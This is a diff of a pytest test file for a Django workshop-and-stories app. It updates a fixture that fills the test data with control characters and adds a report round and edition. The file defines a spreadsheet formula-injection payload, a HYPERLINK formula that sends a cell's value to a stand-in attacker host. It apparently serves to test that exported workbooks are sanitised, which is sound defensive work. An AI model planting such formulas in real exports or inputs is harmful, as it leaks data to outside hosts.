@@ -11,7 +11,7 @@ import pytest
 from openpyxl import load_workbook
 
 from domains.models import Domain
-from tests.factories import cast, make_story, make_workshop
+from tests.factories import cast, make_edition, make_round, make_story, make_workshop
 from workshops.models import Group, Quote, Workshop
 
 pytestmark = pytest.mark.django_db
@@ -21,8 +21,10 @@ ATTACK = '\x01=HYPERLINK("http://angriber.example/?d="&C2,"Åbn")'
 
 @pytest.fixture
 def dirty(db):
-    """A closed citizens' workshop and stories whose texts hold control characters."""
-    workshop = make_workshop(status=Workshop.Status.CLOSED, title="Work\x0bshop")
+    """A closed citizens' workshop and stories whose texts hold control characters, in
+    the report edition shown."""
+    round_ = make_round("Snavset runde")
+    workshop = make_workshop(status=Workshop.Status.CLOSED, title="Work\x0bshop", round=round_)
     Group.objects.filter(workshop=workshop, number=1).update(name="\x1b=Gruppe 1")
     group = workshop.groups.get(number=1)
     for _ in range(3):
@@ -35,7 +37,8 @@ def dirty(db):
         text="Vi blev\x02 hørt\x08.",
     )
     Domain.objects.filter(slug="glaede").update(what_changes="Mere\x0c glæde\ufffe.")
-    make_story(title=ATTACK, text="Tekst\x07 her", consent=("report",))
+    make_story(title=ATTACK, text="Tekst\x07 her", round=round_, consent=("report",))
+    make_edition([round_], ranking=[workshop])
     return workshop
 
 
